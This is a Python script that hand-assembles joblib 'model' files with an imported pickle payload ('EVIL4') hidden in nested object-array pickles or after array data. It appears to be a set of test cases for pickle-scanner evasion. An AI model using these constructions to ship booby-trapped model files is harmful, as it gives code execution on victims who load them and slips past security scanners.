# An array of objects is a pickle of its own in the middle of the outer one.
import bz2
import gzip
import lzma
import zlib

from pickle_asm import *


def dtype(code, hasobject=False):
    flags, order = (63, "|") if hasobject else (0, "<")
    return (stack_global("numpy", "dtype") + args(code, False, True) + REDUCE
            + args(3, order, None, None, None, -1, -1, flags) + BUILD)


def wrapper(shape, kind, **more):
    # The array's bytes follow right behind.
    state = {"shape": shape, "order": "C", "allow_mmap": False, **more}
    body = (stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + MARK
            + b"".join(text(key) + constant(value) for key, value in state.items())
            + text("subclass") + stack_global("numpy", "ndarray") + text("dtype") + kind + SETITEMS)
    return body + BUILD


OBJECTS = dtype("O8", True)
EVIL_FILE = framed(EVIL4 + STOP)


outer = framed(wrapper((1,), OBJECTS))
save("model.joblib", outer + framed(EVIL4 + POP + call4("numpy", "array", [None]) + STOP) + frame(STOP))
array = stack_global("numpy", "empty") + args(1) + REDUCE
save("second.joblib", outer + framed(array + STOP) + frame(POP + wrapper((1,), OBJECTS)) + EVIL_FILE + frame(STOP))
save("behind_array.joblib", framed(wrapper((4,), dtype("f8"))) + b"." * 32 + frame(POP + EVIL4 + STOP))
save("behind_aligned.joblib", framed(wrapper((4,), dtype("f8"), numpy_array_alignment_bytes=16), 4)
     + b"\x01\xff" + b"." * 32 + frame(POP + EVIL4 + STOP))
